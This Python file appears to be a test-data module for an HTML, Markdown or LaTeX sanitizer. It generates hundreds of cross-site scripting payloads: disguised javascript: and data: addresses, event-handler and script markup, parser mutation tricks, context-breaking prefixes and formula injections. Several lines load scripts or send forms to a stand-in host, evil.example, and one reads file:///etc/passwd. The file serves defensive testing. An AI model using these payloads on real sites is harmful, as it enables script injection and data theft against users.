"""What an author who means harm would write: addresses, markup, and ways out of the place where a text stands.

In each of them `CALL` stands for the call of the marker, so that what ran can be told by its number.
"""
import base64
import urllib.parse


def call(number):
    return "ran(%d)" % number


def filled(payload, number):
    """A payload with the marker's call in it; `BASE64[…]` and `PERCENT[…]` are encoded after that."""
    text = payload.replace("CALL", call(number)).replace("NUMBER", str(number))
    for name, encode in (("BASE64[", _base64), ("PERCENT[", urllib.parse.quote), ("UTF7[", _utf7)):
        while name in text:
            start = text.index(name)
            end = text.index("]END", start)
            text = text[:start] + encode(text[start + len(name):end]) + text[end + 4:]
    return text


def _base64(text):
    return base64.b64encode(text.encode()).decode()


def _utf7(text):
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="CALL"><script>CALL</script></svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><script>CALL</script></html>'

_SCHEMES = [
    "javascript:CALL", "vbscript:CALL", "data:text/html,<script>CALL</script>",
    "data:text/html;base64,BASE64[<script>CALL</script>]END", "data:image/svg+xml," + SVG,
]


def _disguises(address):
    """One address in the ways in which filters have been talked out of seeing its scheme."""
    scheme, rest = address.split(":", 1)
    one, others = scheme[0], scheme[1:]
    yield address
    yield scheme.upper() + ":" + rest
    yield "".join(c.upper() if i % 2 else c for i, c in enumerate(scheme)) + ":" + rest
    for blank in (" ", "\t", "&#32;", "&Tab;", "&NewLine;", "&#1;", "\x01", "\x1f", "\u00a0", "\u2028", "\ufeff", "\u200b", "&#0;", "\x00"):
        yield blank + address
    for inner in ("&Tab;", "&#9;", "&NewLine;", "&#xA;", "&#13;", "\t", "%09", "%0A", "\u00ad", "\u200d", "&#0;", "\x00", "&shy;", "\\", "/**/"):
        yield one + inner + others + ":" + rest
    for colon in ("&colon;", "&#58;", "&#x3a;", "&#x0003A;", "&#58", "%3A", "%253A", "\uff1a", "\u2236", " :", "&Tab;:", "\\:", ":&#10;", "::", ":/", "://a.org/%0A"):
        yield scheme + colon + rest
    yield "&#%d;" % ord(one) + others + ":" + rest
    yield "&#x%X;" % ord(one) + others + ":" + rest
    yield "&#%07d" % ord(one) + others + ":" + rest
    yield "%%%02x" % ord(one) + others + ":" + rest
    yield "".join("&#%d;" % ord(c) for c in scheme) + ":" + rest
    yield chr(ord(one) + 0xFEE0) + others + ":" + rest
    yield scheme.replace("s", "\u017f").replace("i", "\u0131") + ":" + rest
    yield scheme.replace("a", "\u0430") + ":" + rest
    yield "\\" + address
    for prefix in ("view-source:", "feed:", "jar:", "x:", "url:", "http:", "https:", "#", "?", "./", "//", "/\\", ";", "'"):
        yield prefix + address


ADDRESSES = list(dict.fromkeys([d for s in _SCHEMES for d in _disguises(s)] + [
    "javascript:%72an(NUMBER)", "javascript:eval('PERCENT[CALL]END')", "javascript:void(CALL)", "javascript:CALL//", "javascript:'<script>CALL</script>'",
    "javascript:/*--></title></style></textarea></script></xmp>*/CALL", "javascript:window['ran'](NUMBER)", "javascript:top.CALL", "javascript:{CALL}",
    "javascript:ran`NUMBER`", "javascript:setTimeout('CALL')", "javascript:location='javascript:CALL'", "javascript:import('data:text/javascript,CALL')",
    "livescript:CALL", "mocha:CALL", "jscript:CALL", "vbs:CALL", "ecmascript:CALL", "behavior:CALL", "about:blank", "about:srcdoc", "file:///etc/passwd",
    "file://evil.example/share/NUMBER.html", "blob:https://a.org/NUMBER", "blob:null/NUMBER", "filesystem:https://a.org/temporary/NUMBER.html", "filesystem:file:///temporary/NUMBER.html",
    "data:,<script>CALL</script>", "data:text/html;charset=utf-7,UTF7[<script>CALL</script>]END", "data:text/html;charset=utf-16le;base64,BASE64[<script>CALL</script>]END",
    "DATA:TEXT/HTML,<script>CALL</script>", "data: text/html,<script>CALL</script>", "data:text/html;;;;,<script>CALL</script>", "data:text/xml," + XHTML, "data:application/xml," + XHTML,
    "data:application/xhtml+xml," + XHTML, "data:application/xhtml+xml;base64,BASE64[" + XHTML + "]END", "data:application/x-javascript,CALL", "data:text/javascript,CALL", "data:text/css,*{x:y}",
    "data:image/svg+xml;base64,BASE64[" + SVG + "]END", "data:image/svg+xml;utf8," + SVG, "data:image/png,image/svg+xml," + SVG, "data:image/png;image/svg+xml;base64,BASE64[" + SVG + "]END",
    "data:image/pngx," + SVG, "data:image/png\"onerror=\"CALL", "data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"CALL", "data:multipart/related,<script>CALL</script>",
    "data:text/html,PERCENT[<script>CALL</script>]END", "data:%74ext/html,<script>CALL</script>", "data:text%2Fhtml,<script>CALL</script>", "data:x/x;text/html,<script>CALL</script>",
    "//evil.example/NUMBER.html", "/\\evil.example/NUMBER.html", "\\\\evil.example\\NUMBER.html", "\\/evil.example/NUMBER.html", "/&Tab;/evil.example/NUMBER.html", "&#47;&#47;evil.example/NUMBER.html",
    "///evil.example/NUMBER.html", "mhtml:https://evil.example/x!NUMBER", "res://ieframe.dll/NUMBER", "chrome://settings", "ms-settings:x", "intent://x#Intent;scheme=javascript;end",
    "wyciwyg://x/NUMBER", "resource://x", "opera:x", "shell:x", "ms-its:x", "cid:x", "tel:javascript:CALL", "mailto:a@b.org?body=<script>CALL</script>", "mailto:\"onclick=CALL\"@b.org",
    "https://a.org/\"onclick=\"CALL", "https://a.org/'onclick='CALL", "https://a.org/\"><img src=x onerror=CALL>", "https://a.org/><script>CALL</script>", "https://javascript:CALL@a.org/",
    "x\"onclick=\"CALL\"x=\"", "x'onclick='CALL'x='", "x onclick=CALL x", "x><img src=x onerror=CALL>", "x&quot;onclick=&quot;CALL", "x&#34;onclick=&#34;CALL", "#\"onclick=\"CALL", "?\"onclick=\"CALL",
    "x%22onclick=%22CALL", "x`onclick=`CALL", "x\\\"onclick=\\\"CALL", "x</a><script>CALL</script>", "x&lt;/a&gt;&lt;script&gt;CALL&lt;/script&gt;",
]))

_EVENTS_ANYWHERE = [
    "onclick", "ondblclick", "onmouseover", "onmouseenter", "onmousedown", "onmouseup", "onmousemove", "onmouseout", "onmouseleave", "oncontextmenu", "onauxclick", "onwheel", "onmousewheel",
    "onpointerover", "onpointerenter", "onpointerdown", "onpointerup", "onpointermove", "onpointerout", "onpointerrawupdate", "ongotpointercapture", "onlostpointercapture", "onpointercancel",
    "onfocus", "onfocusin", "onblur", "onfocusout", "onkeydown", "onkeypress", "onkeyup", "oninput", "onbeforeinput", "onchange", "onselect", "onselectstart", "onselectionchange", "oninvalid", "onreset",
    "onsubmit", "onformdata", "onsearch", "oncut", "oncopy", "onpaste", "onbeforecopy", "onbeforecut", "onbeforepaste", "ondrag", "ondragstart", "ondragend", "ondragenter", "ondragover", "ondragleave", "ondrop",
    "onscroll", "onscrollend", "onscrollsnapchange", "onanimationstart", "onanimationend", "onanimationiteration", "onanimationcancel", "ontransitionrun", "ontransitionstart", "ontransitionend", "ontransitioncancel",
    "ontouchstart", "ontouchmove", "ontouchend", "ontouchcancel", "onfullscreenchange", "onfullscreenerror", "onwebkitfullscreenchange", "onwebkitanimationstart", "onwebkitanimationend", "onwebkittransitionend",
    "ontoggle", "onbeforetoggle", "oncommand", "oncancel", "onclose", "onbeforematch", "onsecuritypolicyviolation", "onslotchange", "oncontentvisibilityautostatechange", "onload", "onerror", "onresize", "ONCLICK", "onMouseOver",
]

_EVENTS_OF_ELEMENTS = [
    "<img src=x onerror=CALL>", "<img src=x onerror='CALL'>", "<img src=x onerror=\"CALL\">", "<img src=x onerror=`CALL`>", "<IMG SRC=x ONERROR=CALL>", "<img/src=x/onerror=CALL>", "<img\tsrc=x\tonerror=CALL>",
    "<img src=x onerror&#61;CALL>", "<img src=x onerror=&#114;an(NUMBER)>", "<img src=x onerror=&#x72;an(NUMBER)>", "<img src=x onerror =CALL>", "<img src=x onerror\x0c=CALL>", "<img src='x'onerror='CALL'>", "<img src=x:x onerror=CALL//",
    "<img srcset=x onerror=CALL>", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=CALL>", "<img \"\"\"><script>CALL</script>\">", "<img src=x alt='>' onerror=CALL>", "<image src=x onerror=CALL>", "<img src=x onerror=eval(atob('BASE64[CALL]END'))>",
    "<picture><source srcset=x><img onerror=CALL src=x></picture>", "<video src=x onerror=CALL>", "<video><source src=x onerror=CALL></video>", "<video poster=javascript:CALL>", "<audio src=x onerror=CALL>", "<audio><source onerror=CALL></audio>",
    "<input type=image src=x onerror=CALL>", "<input autofocus onfocus=CALL>", "<textarea autofocus onfocus=CALL></textarea>", "<select autofocus onfocus=CALL></select>", "<keygen autofocus onfocus=CALL>", "<button autofocus onfocus=CALL>x</button>",
    "<a href=# autofocus onfocus=CALL>x</a>", "<p tabindex=0 autofocus onfocus=CALL>x</p>", "<p contenteditable autofocus onfocus=CALL>x</p>", "<iframe onload=CALL></iframe>", "<iframe src=about:blank onload=CALL></iframe>",
    "<object data=x onerror=CALL></object>", "<embed src=x onload=CALL>", "<body onload=CALL>", "<body onpageshow=CALL>", "<body onhashchange=CALL>", "<body onscroll=CALL>", "<html onclick=CALL>", "<frameset onload=CALL>", "<link rel=stylesheet href=x onerror=CALL>",
    "<style onload=CALL></style>", "<style onload=CALL>*{x:y}</style>", "<script src=x onerror=CALL></script>", "<track onerror=CALL src=x>", "<details open ontoggle=CALL>x</details>", "<details ontoggle=CALL><summary>x</summary>y</details>",
    "<marquee onstart=CALL>x</marquee>", "<marquee loop=1 width=0 onfinish=CALL>x</marquee>", "<dialog open onclose=CALL><form method=dialog><button>x</button></form></dialog>", "<button popovertarget=p№>x</button><p popover id=p№ onbeforetoggle=CALL>x</p>",
    "<svg onload=CALL>", "<svg onload=CALL></svg>", "<svg/onload=CALL>", "<svg><g onload=CALL></g></svg>", "<svg><image href=x onerror=CALL /></svg>", "<svg><animate onbegin=CALL attributeName=x dur=1s>", "<svg><set onbegin=CALL attributeName=x>",
    "<svg><animateTransform onbegin=CALL attributeName=transform>", "<svg><animate onend=CALL attributeName=x dur=0.01s>", "<svg><a onclick=CALL><text y=9>x</text></a></svg>", "<svg><style onload=CALL></style></svg>",
    "<math onclick=CALL><mtext>x</mtext></math>", "<math><maction actiontype=statusline onclick=CALL>x</maction></math>", "<x onclick=CALL>x</x>", "<my-element onmouseover=CALL>x</my-element>", "<xss style=animation-name:x onanimationstart=CALL>x</xss>",
]

_SCRIPT_ELEMENTS = [
    "<script>CALL</script>", "<script >CALL</script >", "<SCRIPT>CALL</SCRIPT>", "<script\n>CALL</script\n>", "<script/x>CALL</script>", "<script type=text/javascript>CALL</script>", "<script type=module>CALL</script>", "<script defer>CALL</script>", "<script async>CALL</script>",
    "<script language=javascript>CALL</script>", "<script src=data:text/javascript,CALL></script>", "<script src=https://evil.example/NUMBER.js></script>", "<script src=//evil.example/NUMBER.js></script>", "<script type=importmap>{}</script><script>CALL</script>",
    "<script><!--\nCALL\n//--></script>", "<script>/*<![CDATA[*/CALL/*]]>*/</script>", "<script>CALL", "<scr<script>ipt>CALL</scr</script>ipt>", "<<script>CALL//<</script>", "<script x=\">\">CALL</script>", "<script>\u2028CALL</script>", "<script nonce=x>CALL</script>",
    "<svg><script>CALL</script></svg>", "<svg><script href=data:text/javascript,CALL /></svg>", "<svg><script xlink:href=data:text/javascript,CALL></script></svg>", "<svg><script>&#114;an(NUMBER)</script></svg>", "<math><script>CALL</script></math>",
    "<noscript><script>CALL</script></noscript>", "<template><script>CALL</script></template>", "<template shadowrootmode=open><script>CALL</script></template>", "<div><template shadowrootmode=open><img src=x onerror=CALL></template></div>", "<xmp><script>CALL</script></xmp>", "<textarea><script>CALL</script></textarea>", "<title><script>CALL</script></title>",
    "<iframe src=javascript:CALL></iframe>", "<iframe src='javascript:parent.CALL'></iframe>", "<iframe src=data:text/html,<script>CALL</script>></iframe>", "<iframe srcdoc='<script>CALL</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;CALL&lt;/script&gt;'></iframe>", "<iframe srcdoc=<img/src=x/onerror=parent.CALL>></iframe>",
    "<iframe src=https://evil.example/NUMBER.html></iframe>", "<frameset><frame src=javascript:CALL></frameset>", "<object data=javascript:CALL></object>", "<object data=data:text/html,<script>CALL</script>></object>", "<object type=text/html data=data:text/html;base64,BASE64[<script>CALL</script>]END></object>", "<object data='data:image/svg+xml," + SVG.replace('"', "&quot;") + "'></object>",
    "<embed src=javascript:CALL>", "<embed src=data:text/html,<script>CALL</script>>", "<embed code=javascript:CALL>", "<embed type=image/svg+xml src='data:image/svg+xml;base64,BASE64[" + SVG + "]END'>", "<applet code=javascript:CALL></applet>", "<portal src=javascript:CALL></portal>", "<fencedframe src=javascript:CALL></fencedframe>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>CALL</script>'>", "<meta http-equiv=refresh content='9;javascript:CALL'>", "<meta http-equiv=set-cookie content=x=y>", "<meta charset=utf-7>+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "<base href=javascript:/a/><a href=/CALL>x</a>", "<base href=https://evil.example/>", "<base target=_blank>", "<link rel=stylesheet href=javascript:CALL>", "<link rel=import href=data:text/html,<script>CALL</script>>", "<link rel=stylesheet href=https://evil.example/NUMBER.css>", "<link rel=prefetch href=https://evil.example/NUMBER>", "<link rel=modulepreload href=https://evil.example/NUMBER.js>",
    "<form action=javascript:CALL><button>x</button></form>", "<form action=javascript:CALL><input type=submit></form>", "<form id=f№></form><button form=f№ formaction=javascript:CALL>x</button>", "<form><button formaction=javascript:CALL>x</button></form>", "<form><input type=submit formaction=javascript:CALL></form>", "<form><input type=image src=x formaction=javascript:CALL></form>",
    "<form action=https://evil.example/NUMBER><button>x</button></form>", "<isindex action=javascript:CALL type=image>", "<a href=javascript:CALL>x</a>", "<a href='java&#9;script:CALL'>x</a>", "<a href=' javascript:CALL'>x</a>", "<a href='&#14;javascript:CALL'>x</a>", "<a href=javascript&colon;CALL>x</a>", "<a href=data:text/html,<script>CALL</script>>x</a>",
    "<a href=javascript:CALL target=_blank>x</a>", "<a href=x ping=https://evil.example/NUMBER>x</a>", "<a xlink:href=javascript:CALL>x</a>", "<area href=javascript:CALL>", "<map name=m№><area shape=default href=javascript:CALL></map><img usemap=#m№ src=x>",
    "<svg><a href=javascript:CALL><text y=9>x</text></a></svg>", "<svg><a xlink:href=javascript:CALL><text y=9>x</text></a></svg>", "<svg><a><animate attributeName=href values=javascript:CALL /><text y=9>x</text></a></svg>", "<svg><a><set attributeName=href to=javascript:CALL /><text y=9>x</text></a></svg>", "<svg><a href=?><animate attributeName=xlink:href from=javascript:CALL to=x dur=9s /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml," + SVG.replace('"', "&quot;") + "#x' /></svg>", "<svg><foreignObject><script>CALL</script></foreignObject></svg>", "<svg><foreignObject><iframe src=javascript:CALL></iframe></foreignObject></svg>", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>CALL</handler></svg>", "<svg><feImage href=javascript:CALL /></svg>",
    "<math href=javascript:CALL><mtext>x</mtext></math>", "<math><mtext xlink:href=javascript:CALL>x</mtext></math>", "<math><maction actiontype=statusline#https://a.org xlink:href=javascript:CALL>x</maction></math>", "<math><semantics><annotation-xml encoding=text/html><script>CALL</script></annotation-xml></semantics></math>",
    "<style>@import 'javascript:CALL';</style>", "<style>@import url(https://evil.example/NUMBER.css);</style>", "<style>*{background:url(javascript:CALL)}</style>", "<p style=background:url(javascript:CALL)>x</p>", "<p style=width:expression(CALL)>x</p>", "<p style='behavior:url(#default#time2)' onbegin=CALL>x</p>", "<p style='-moz-binding:url(data:text/xml,x)'>x</p>", "<table background=javascript:CALL>",
    "<img src=javascript:CALL>", "<img dynsrc=javascript:CALL>", "<img lowsrc=javascript:CALL>", "<bgsound src=javascript:CALL>", "<layer src=javascript:CALL></layer>", "<xml src=x id=x></xml><span datasrc=#x datafld=a dataformatas=html></span>", "<?xml-stylesheet href='javascript:CALL'?>", "<?import namespace=x implementation=x ?>", "<?php echo '<script>CALL</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>CALL</script>'>]>&y;", "<![CDATA[<script>CALL</script>]]>", "<!--><script>CALL</script>-->", "<!---><script>CALL</script>-->", "<!-- --!><script>CALL</script>-->", "<!-- -- --><script>CALL</script>", "<!--[if IE]><script>CALL</script><![endif]-->", "<!x><script>CALL</script>", "</><script>CALL</script>", "</ x><script>CALL</script>", "<%><script>CALL</script>", "<\x00script>CALL</script>", "<script\x00>CALL</script>", "<script\x0c>CALL</script>",
]

_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CALL&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>", "<svg></p><style><a id=\"</style><img src=1 onerror=CALL>\">", "<svg><style><img title=\"</style><img src=1 onerror=CALL>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">", "<noembed><p title=\"</noembed><img src=x onerror=CALL>\">", "<noframes><p title=\"</noframes><img src=x onerror=CALL>\">", "<iframe><p title=\"</iframe><img src=x onerror=CALL>\">", "<xmp><p title=\"</xmp><img src=x onerror=CALL>\">", "<textarea><p title=\"</textarea><img src=x onerror=CALL>\">", "<title><p title=\"</title><img src=x onerror=CALL>\">",
    "<listing>&lt;img src=x onerror=CALL&gt;</listing>", "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=CALL>\"></annotation-xml></math>", "<svg><desc><title><style><img title=\"</style><img src onerror=CALL>\"></title></desc></svg>", "<math><mi><style><img title=\"</style><img src onerror=CALL>\"></mi></math>",
    "<svg><title><![CDATA[</title><img src onerror=CALL>]]></title></svg>", "<table><td><math><mtext></td></table><img src onerror=CALL>", "<select><template><img src=x onerror=CALL></template></select>", "<select><style></select><img src onerror=CALL></style>", "<p><svg><p title=\"</svg><img src onerror=CALL>\">", "<div id=\"--><img src=x onerror=CALL>\">",
    "<a><b><a><b><img src=x onerror=CALL>", "<b <script>CALL</script>0", "<a href=\"a\"b\"onclick=CALL\">x</a>", "<img alt=\"`><img src=x onerror=CALL>\">", "<img src=\"x` `<script>CALL</script>\"` `>", "<p id=clobber name=getElementById><form id=x><input name=attributes></form><img src=x onerror=CALL>", "<style>a{}</style/><img src=x onerror=CALL>", "<svg/><script>CALL</script>",
]

MARKUP = list(dict.fromkeys(
    _SCRIPT_ELEMENTS + _EVENTS_OF_ELEMENTS + _MUTATIONS + ["<p tabindex=0 %s=CALL>x</p>" % e for e in _EVENTS_ANYWHERE] + ["<input %s=CALL>" % e for e in _EVENTS_ANYWHERE[::3]]))

_WAYS_OUT = [
    "", "\"", "'", "\">", "'>", "`", "`>", "-->", "--!>", "]]>", "</title>", "</style>", "</script>", "<!--</script>", "</textarea>", "</svg>", "</text>", "</title></svg>", "</desc>", "</code></pre>", "</code>", "</a>", "</td></tr></table>", "</figcaption>", "</caption>", "</math>", "</annotation></semantics></math>",
    "*/", "}", "\\", "\\\"", "\\'>", "&quot;>", "&#34;>", "&#x22;>", "%22%3E", "\x00\">", "\ufffd\">", "\u2028", "\uff02\uff1e", "\\u0022\\u003e", "${", "{{", "\n\n", "\r", "</noscript>", "</template>", "</xmp><plaintext>", "?>", "%>", "`` ` ``",
]
_CORES = [
    "<img src=x onerror=CALL>", "<script>CALL</script>", "<svg onload=CALL>", " onmouseover=CALL x=", " autofocus tabindex=0 onfocus=CALL x=\"", " style=animation-name:x onanimationstart=\"CALL\" ", "<a href=javascript:CALL>x</a>", "&lt;script&gt;CALL&lt;/script&gt;", "&#60;img src=x onerror=CALL&#62;", "[x](javascript:CALL)", "<javascript:CALL>", "![x](javascript:CALL)", "[x]: javascript:CALL",
]

#: Ways out of wherever a text stands, each with what would run behind it.
TEXTS = [way + core for way in _WAYS_OUT for core in _CORES]

#: What formulas could be talked into.
FORMULAS = [
    "\\href{ADDRESS}{x}", "\\url{ADDRESS}", "\\includegraphics{ADDRESS}", "\\includegraphics[alt={TEXT}]{ADDRESS}", "\\htmlData{x=TEXT}{x}", "\\htmlData{x=TEXT,onclick=CALL}{x}", "\\htmlClass{TEXT}{x}", "\\htmlId{TEXT}{x}", "\\htmlStyle{TEXT}{x}", "\\htmlStyle{background:url(ADDRESS)}{x}", "\\class{TEXT}{x}", "\\cssId{TEXT}{x}", "\\style{TEXT}{x}",
    "\\text{TEXT}", "\\textrm{TEXT}", "\\mathrm{TEXT}", "\\operatorname{TEXT}", "\\mbox{TEXT}", "\\hbox{TEXT}", "\\color{TEXT}x", "\\textcolor{TEXT}{x}", "\\colorbox{TEXT}{x}", "\\fcolorbox{red}{TEXT}{x}", "\\tag{TEXT}", "\\tag*{TEXT}", "\\verb|TEXT|", "\\verb*|TEXT|", "\\def\\x{TEXT}\\x", "\\newcommand{\\x}{\\href{ADDRESS}{x}}\\x", "\\let\\x\\href\\x{ADDRESS}{x}",
    "\\expandafter\\href{ADDRESS}{x}", "\\begin{array}{TEXT}x\\end{array}", "\\begin{TEXT}x\\end{TEXT}", "\\rule{TEXT}{1em}", "\\hspace{TEXT}", "\\kern TEXT", "\\raisebox{TEXT}{x}", "\\genfrac{TEXT}{x}{1em}{0}{x}{y}", "\\char\"3C\\text{script}\\char\"3E", "\\unicode{x3C}", "\\html{TEXT}", "\\label{TEXT}", "\\ref{TEXT}", "\\require{TEXT}", "\\input{ADDRESS}", "\\write18{TEXT}", "\\special{html:TEXT}", "x^{TEXT}_{TEXT}", "TEXT", "\\TEXT", "\\underline{TEXT", "\\left TEXT x \\right)", "\\textcolor{#f00;}{\\text{TEXT}}", "\\color{red;background:url(ADDRESS)}x", "\\mathchoice{TEXT}{x}{x}{x}", "%TEXT", "\\@char{60}TEXT",
]
